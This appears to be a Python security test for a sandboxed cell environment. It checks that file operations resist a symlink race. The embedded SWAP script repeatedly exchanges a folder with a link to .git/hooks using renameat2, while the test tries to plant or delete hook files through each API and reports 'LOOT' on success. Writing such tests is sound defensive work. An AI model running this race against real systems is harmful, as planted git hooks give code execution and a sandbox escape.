# SPDX-License-Identifier: Apache-2.0
"""A cell swaps a folder for a link to .git/hooks while a client uses every door to that folder.

ATTACK_TRIES (60) tries of each act; by hand ATTACK_SECONDS=60 instead (docs/testing.md)."""

import os

from box import WAIT, WITH_DOORS, Box, Mode, at_doors

BREAKS = ("docs/files.md", "Code in a cell that swaps folders for links meanwhile gains nothing")

SWAP = r"""
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
for name in ('a', 'l'):
    if os.path.islink(name): os.unlink(name)
    elif os.path.isdir(name): os.rename(name, name + os.urandom(4).hex())
os.mkdir('a'); os.symlink('.git/hooks', 'l')
open('swaps', 'w').close()
n = 0
while not os.path.exists('stop'):
    for _ in range(200):
        if libc.renameat2(-100, b'a', -100, b'l', 2) != 0:
            os.rename('a', 't'); os.rename('l', 'a'); os.rename('t', 'l')
        n += 1
print(n)
"""

SCRIPT = """
TRIES, SECONDS, SWAP = {tries}, {seconds}, {swap!r}
hooks = ".git/hooks"
ask(API, "POST", "/v1/sessions", b'{{"id": "swapper"}}', {{"Content-Type": "application/json", "Authorization": "Bearer " + ADMIN}})
def spare():
    ask(API, "PUT", "/v1/files/spare", b"spare", {{"Authorization": "Bearer " + ADMIN}})
def victim():
    open(hooks + "/victim", "w").close()
    os.chmod(hooks + "/victim", 0o666)
def there(name): return os.path.lexists(f"{{hooks}}/{{name}}")
def changes(act, do, n):
    if act == "remove":
        victim(); do("a/victim"); return not there("victim")
    if act == "move":
        victim(); do("a/victim"); return not there("victim")
    if act.startswith("bring"):
        spare(); do(f"a/p{{n}}"); return there(f"p{{n}}")
    if act == "folder":
        do("a"); return there("new")
    if act.startswith("write"):
        do(f"a/p{{n}}", b"planted"); return there(f"p{{n}}")
for name in ("stop", "swaps"):
    os.path.lexists(name) and os.unlink(name)
thread = threading.Thread(target=lambda: print("swaps", cell(SWAP, "swapper").strip()))
thread.start()
while not os.path.exists("swaps"): time.sleep(0.01)
for door in doors(EXECUTE):
    for act, do in door.acts.items():
        if act in ("read", "list", "stat", "take", "link") or act.startswith("list"): continue
        won = n = 0
        end = time.monotonic() + SECONDS
        while n < TRIES or (SECONDS and time.monotonic() < end):
            n += 1
            won += bool(changes(act, do, n))
            if won and not SECONDS: break
        for name in os.listdir(hooks):
            try: os.rmdir(f"{{hooks}}/{{name}}") if os.path.isdir(f"{{hooks}}/{{name}}") else os.unlink(f"{{hooks}}/{{name}}")
            except OSError: pass
        print("LOOT" if won else "held", door.name, act, "won", won, "of", n, flush=True)
open("stop", "w").close()
os.chmod("stop", 0o666)
thread.join()
"""
ONLY = ["*+S"]


def box_for(mode: Mode) -> Box:
    return Box(mode, words=WITH_DOORS)


def attack(box: Box) -> str:
    tries, seconds = os.environ.get("ATTACK_TRIES", "60"), os.environ.get("ATTACK_SECONDS", "0")
    box.run()
    script = SCRIPT.format(tries=tries if seconds == "0" else "1", seconds=seconds, swap=SWAP)
    told = at_doors(box, script, timeout=WAIT * (2 + int(seconds)))
    if seconds != "0":
        print(f"# {box.mode.name}:", *told.splitlines(), sep="\n#   ", flush=True)
    return "; ".join(line for line in told.splitlines() if line.startswith("LOOT"))
